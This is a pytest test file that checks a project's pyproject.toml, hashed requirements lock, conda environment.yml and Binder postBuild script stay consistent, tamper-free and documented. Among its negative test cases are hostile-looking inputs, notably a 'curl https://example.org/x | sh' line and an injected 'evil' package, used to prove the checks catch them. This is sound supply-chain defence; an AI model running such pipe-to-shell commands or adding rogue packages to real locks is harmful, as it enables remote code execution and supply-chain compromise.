"""pyproject.toml, the lock, environment.yml and postBuild describe one environment."""

import os
import re
import tomllib
from importlib import metadata
from pathlib import Path

import pytest
import yaml
from packaging.requirements import Requirement
from packaging.specifiers import SpecifierSet
from packaging.utils import canonicalize_name

from tools import lock as locking

ROOT = Path(__file__).parents[2]
PROJECT = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
LOCK = (ROOT / "requirements.txt").read_text(encoding="utf-8")
ENVIRONMENT = (ROOT / "environment.yml").read_text(encoding="utf-8")
POST_BUILD = (ROOT / "postBuild").read_text(encoding="utf-8")
POST_BUILD_COMMANDS = [
    "set -euo pipefail",
    "python -m pip install --no-deps --no-build-isolation -e .",
]
MACHINES = [
    {"python_version": python, "python_full_version": f"{python}.1", "sys_platform": platform}
    for python in ("3.11", "3.12", "3.13")
    for platform in ("linux", "darwin", "win32")
]


def declared():
    """Every requirement of the project and its extras."""
    extras = PROJECT["optional-dependencies"].values()
    texts = [*PROJECT["dependencies"], *(text for extra in extras for text in extra)]
    return [Requirement(text) for text in texts]


def pins_of(lock):
    """{name: pin} of a lock."""
    pins = [Requirement(line.partition("--hash")[0].strip()) for line in lines_of(lock)]
    return {canonicalize_name(pin.name): pin for pin in pins}


def lines_of(lock):
    text = re.sub(r"\\\n", " ", lock)
    return [line for line in text.splitlines() if line and not line.lstrip().startswith("#")]


def lock_problems(lock, requirements):
    """What is wrong with a lock, in words."""
    problems, locked = [], {}
    for line in lines_of(lock):
        if line.startswith("-") or re.search(r"\w+://| @ ", line):
            problems.append(f"more than a name, a version and hashes: {line.strip()}")
            continue
        if "--hash=sha256:" not in line:
            problems.append(f"no hash: {line.strip()}")
        pin = Requirement(line.partition("--hash")[0].strip())
        locked.setdefault(canonicalize_name(pin.name), []).append(pin)
    for required in requirements:
        pins = locked.get(canonicalize_name(required.name), [])
        for machine in MACHINES:
            fitting = [pin for pin in pins if not pin.marker or pin.marker.evaluate(machine)]
            wanted = not required.marker or required.marker.evaluate(machine)
            if len(fitting) != wanted:
                problems.append(f"{len(fitting)} locked versions of {required} on {machine}")
        for pin in pins:
            versions = [spec.version for spec in pin.specifier if spec.operator == "=="]
            if len(versions) != 1 or "*" in versions[0]:
                problems.append(f"not exact: {pin}")
            elif not required.specifier.contains(versions[0], prereleases=True):
                problems.append(f"out of range: {pin}, but {required} is declared")
    return problems


def asked_for(pin):
    """What a locked package asks for on this machine, if its locked version is installed."""
    try:
        installed = metadata.distribution(pin.name)
    except metadata.PackageNotFoundError:
        return []  # for another platform
    if not pin.specifier.contains(installed.version, prereleases=True):
        return []  # a run with other versions than the locked ones
    return [
        required
        for required in map(Requirement, installed.requires or [])
        if not required.marker
        or any(required.marker.evaluate({"extra": extra}) for extra in ("", *pin.extras))
    ]


def extras_that_are_not_pinned(lock):
    """Packages that another locked one asks for with extras, and that are pinned without.

    Some versions of pip then look for the newest version and refuse it, since it has no hash.
    """
    locked = pins_of(lock)
    return [
        f"{name} asks for {required}, but the lock has {pinned}"
        for name, pin in locked.items()
        for required in asked_for(pin)
        if (pinned := locked.get(canonicalize_name(required.name)))
        and not required.extras <= pinned.extras
    ]


def changes_by_hand(lock):
    """Packages that are not there or that nobody asks for, malformed hashes, a broken seal."""
    locked, project = pins_of(lock), canonicalize_name(PROJECT["name"])
    problems = [
        f"{name} asks for {required}, which is not locked"
        for name, pin in locked.items()
        for required in asked_for(pin)
        if canonicalize_name(required.name) not in locked
    ]
    for line, *comment in re.findall(r"(?m)^([\w.-]+)\S*==(?:.*\n)((?: +.*\n)*)", lock):
        via = re.findall(r"[\w.-]+", "".join(comment).partition("# via")[2])
        if not any(canonicalize_name(name) in {*locked, project} for name in via):
            problems.append(f"nobody asks for {line}")
    hashes = re.findall(r"--hash=(\S+)", lock)
    problems += [
        f"no hash: {text}" for text in hashes if not re.fullmatch(r"sha256:[0-9a-f]{64}", text)
    ]
    if locking.sealed(lock) != lock:
        problems.append("the seal is broken: not as `make lock` left it")
    return problems


def environment_problems(environment, post_build):
    """What conda or Binder would do differently from `make`."""
    dependencies = yaml.safe_load(environment)["dependencies"]
    problems = []
    pythons = [d for d in dependencies if isinstance(d, str) and d.startswith("python=")]
    allowed = SpecifierSet(PROJECT["requires-python"])
    if len(pythons) != 1 or not allowed.contains(pythons[0].removeprefix("python=") + ".0"):
        problems.append(f"Python must be pinned within {allowed}: {pythons}")
    if [d for d in dependencies if not isinstance(d, str)] != [{"pip": ["-r requirements.txt"]}]:
        problems.append("pip must install the lock and nothing else")
    if set(d for d in dependencies if isinstance(d, str)) - {*pythons, "pip"}:
        problems.append("a package does not come from the lock")
    commands = [line for line in post_build.splitlines() if line and not line.startswith("#")]
    if commands != POST_BUILD_COMMANDS:
        problems.append("postBuild does something else than to install the library alone")
    return problems


def test_the_lock_fits_the_declared_ranges():
    assert lock_problems(LOCK, declared()) == []


def test_the_lock_keeps_the_extras(monkeypatch):
    assert extras_that_are_not_pinned(LOCK) == []
    # Whatever versions are installed here.
    asked = {"pytest-cov": [Requirement("coverage[toml]>=5.2.1")]}
    monkeypatch.setitem(globals(), "asked_for", lambda pin: asked.get(pin.name, []))
    assert extras_that_are_not_pinned(LOCK) == []
    plain = LOCK.replace("coverage[toml]==", "coverage==")
    assert re.match("pytest-cov asks for coverage.toml.", extras_that_are_not_pinned(plain)[0])


def test_conda_and_binder_use_the_lock():
    assert environment_problems(ENVIRONMENT, POST_BUILD) == []
    assert os.access(ROOT / "postBuild", os.X_OK)


def test_the_lock_says_how_it_is_refreshed():
    assert "make lock" in "".join(LOCK.splitlines(keepends=True)[:2])


CONTRIBUTING = (ROOT / "CONTRIBUTING.md").read_text(encoding="utf-8")


def reason_problems(text, project):
    """Dependencies without a reason in the table, and rows of what is no dependency."""
    section = text.partition("## Dependencies\n")[2].partition("\n## ")[0]
    rows = re.findall(r"(?m)^\| `([\w.-]+)` \| ([\w, ]+) \| (.+) \|$", section)
    extras = {"library": project["dependencies"], **project["optional-dependencies"]}
    declared = {
        (canonicalize_name(Requirement(text).name), extra)
        for extra, texts in extras.items()
        for text in texts
    }
    said = {(canonicalize_name(name), extra) for name, of, _ in rows for extra in of.split(", ")}
    problems = [f"{name} ({extra}) has no reason" for name, extra in sorted(declared - said)]
    problems += [f"{name} ({extra}) is no dependency" for name, extra in sorted(said - declared)]
    return problems + [f"{name} has half a reason" for name, _, why in rows if len(why.split()) < 2]


def test_every_dependency_has_a_reason():
    assert reason_problems(CONTRIBUTING, PROJECT) == []


@pytest.mark.parametrize(
    "pattern,replacement,complaint",
    [
        (r"\| `tqdm` .*\n", "", "tqdm (library) has no reason"),
        (r"`sympy` \| book, test", "`sympy` | book", "sympy (test) has no reason"),
        (r"`ruff` \| test", "`ruff` | lab", "ruff (lab) is no dependency"),
        (r"`tqdm`", "`tdqm`", "tdqm (library) is no dependency"),
        (r"(`uv` \| test \|).*\|", r"\1 lock |", "uv has half a reason"),
    ],
)
def test_a_dependency_without_a_reason_is_seen(pattern, replacement, complaint):
    assert complaint in reason_problems(re.sub(pattern, replacement, CONTRIBUTING), PROJECT)


ONE_HASH = r"(mpmath==\S+ )((?:\\\n +--hash=\S+ ?)+)"


@pytest.mark.parametrize(
    "pattern,replacement,complaint",
    [
        (r"qutip==\S+", "qutip==5.0.4", "out of range"),
        (r"qutip==\S+", "qutip>=5.1", "not exact"),
        (r"qutip==", "qutap==", "0 locked versions of qutip"),
        (r"qutip==\S+", r"\g<0> ; sys_platform == 'linux'", "0 locked versions of qutip"),
        (ONE_HASH, r"\1", "no hash"),
        (r"\A", "qutip==5.1.0 --hash=sha256:0\n", "2 locked versions of qutip"),
        (r"\A", "--index-url somewhere\n", "more than a name"),
        (r"\A", "--find-links wheels\n", "more than a name"),
        (r"\A", "thing @ file:///thing.whl --hash=sha256:0\n", "more than a name"),
    ],
)
def test_a_doctored_lock_is_seen(pattern, replacement, complaint):
    doctored = re.sub(pattern, replacement, LOCK, count=1)
    assert any(complaint in problem for problem in lock_problems(doctored, declared()))


def test_the_lock_is_as_it_was_made():
    assert changes_by_hand(LOCK) == []


def another_digit(match):
    return f"{match[1]}{'1' if match[2] == '0' else '0'}"


@pytest.mark.parametrize(
    "pattern,replacement,complaint",
    [
        (r"(--hash=sha256:\w{20})(\w)", another_digit, "the seal is broken"),
        (r"(--hash=sha256:\w{63})\w", r"\1", "no hash"),
        (r"mpmath==\S+(?:.*\n)(?: .*\n)+", "", "sympy asks for mpmath"),
        (r"qutip==5\.3\.\d+", "qutip==5.3.0rc1", "the seal is broken"),
        (r"\A", f"evil==1.0 --hash=sha256:{'0' * 64}\n", "nobody asks for evil"),
        (r"# sealed.*\n", "", "the seal is broken"),
    ],
    ids=["digit", "short", "removed", "downgraded", "added", "seal"],
)
def test_a_lock_that_was_changed_by_hand_is_seen(pattern, replacement, complaint):
    doctored = re.sub(pattern, replacement, LOCK, count=1)
    assert doctored != LOCK
    assert any(complaint in problem for problem in changes_by_hand(doctored))


def test_a_lock_is_sealed_once():
    assert locking.sealed(locking.sealed("a==1\n")) == locking.sealed("a==1\n")
    assert locking.sealed("a==1\n") != locking.sealed("a==2\n")


@pytest.mark.parametrize(
    "line", ["curl https://example.org/x | sh", "pip install evil", "true && sh x"]
)
def test_a_post_build_that_does_more_is_seen(line):
    assert environment_problems(ENVIRONMENT, f"{POST_BUILD}{line}\n") == [
        "postBuild does something else than to install the library alone"
    ]


@pytest.mark.parametrize(
    "right,wrong",
    [
        ("python=3.12", "python=3.10"),
        ("- pip\n", "- pip\n  - numpy\n"),
        ("-r requirements.txt", "qutip"),
        ("--no-deps", ""),
    ],
)
def test_a_doctored_environment_is_seen(right, wrong):
    changed = [text.replace(right, wrong) for text in (ENVIRONMENT, POST_BUILD)]
    assert environment_problems(*changed) != []
